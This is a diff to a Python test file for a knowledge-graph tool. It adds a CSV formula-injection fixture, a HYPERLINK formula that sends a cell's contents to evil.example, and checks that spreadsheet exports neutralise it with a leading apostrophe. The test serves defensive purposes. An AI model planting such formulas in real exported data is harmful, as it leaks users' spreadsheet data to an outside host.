@@ -7,6 +7,7 @@ from click.testing import CliRunner
 from kg.cli import main
 
 GOOD = "We propose Zorbnet, a novel framework for node classification, evaluated on MNIST."
+FORMULA = '=HYPERLINK("http://evil.example/?"&A1, "click")'
 
 
 def write_bad_corpus(root):
@@ -54,6 +55,9 @@ def write_bad_corpus(root):
     paragraphs[3] = paragraphs[3].replace("method", "met\x00hod")
     (root / "nul.txt").write_text("ICLR 2024 Papers\n\n" + "\n\n".join(paragraphs) + "\n", encoding="utf-8")
     words = "we evaluate our method on MNIST and CIFAR-10 in terms of accuracy and F1 score with BERT "
+    (root / "formula.jsonl").write_text(json.dumps({
+        "abstract": "We propose Formulanet, a model for tables.", "venue": FORMULA, "title": "@SUM(1+1)"}) + "\n",
+        encoding="utf-8")
     (root / "runon.jsonl").write_text(json.dumps({"abstract": (words * 1200)[:100_000]}) + "\n", encoding="utf-8")
 
 
@@ -75,7 +79,8 @@ def test_every_bad_record_is_accounted_for(tmp_path):
     assert by_file["hostile.jsonl"] == ["built", "skipped", "skipped", "skipped", "built"]
     assert by_file["minified.json"] == ["built", "skipped"] + ["built"] * 39
     assert by_file["nul.txt"] == ["built"] * 3 + ["skipped"] + ["built"] * 96
-    assert by_file["runon.jsonl"] == ["built"]  # a 100k-character run-on abstract, within the time budget
+    assert by_file["runon.jsonl"] == ["built"]
+    assert by_file["formula.jsonl"] == ["built"]  # a 100k-character run-on abstract, within the time budget
     reasons = {row["reason"] for row in manifest if row["outcome"] == "skipped"}
     assert {"invalid JSON: nested too deeply to read", "lone surrogate \\ud800 in the abstract: not valid Unicode",
             "NUL character in the abstract: binary data, not text"} <= reasons
@@ -110,6 +115,19 @@ def test_every_bad_record_is_accounted_for(tmp_path):
     gexf = write_gexf(read_graph(tmp_path / "out"), tmp_path / "graph.gexf")
     ET.parse(gexf)
     assert nx.read_gexf(gexf).number_of_nodes() == graph.number_of_nodes()
+    # CSVs: neo4j-admin's bulk files keep the real values (a leading apostrophe would be imported
+    # as part of the name); tables for spreadsheets neutralise them (kg.analyse.exports.write_csv)
+    import csv
+
+    from kg.analyse.exports import write_csv
+    from kg.export.neo4j_bulk import write_bulk_csv
+
+    write_bulk_csv(read_graph(tmp_path / "out"), tmp_path / "bulk")
+    with open(tmp_path / "bulk" / "nodes_Venue.csv", newline="", encoding="utf-8") as handle:
+        assert FORMULA in {row["name"] for row in csv.DictReader(handle)}
+    venues = [(d["name"], d["label"]) for _, d in read_graph(tmp_path / "out").nodes(data=True) if d["label"] == "Venue"]
+    with open(write_csv(tmp_path / "venues.csv", ["name", "type"], venues), newline="", encoding="utf-8") as handle:
+        assert "'" + FORMULA in {row["name"] for row in csv.DictReader(handle)}
 
 
 def by_file_count(by_file, outcome):
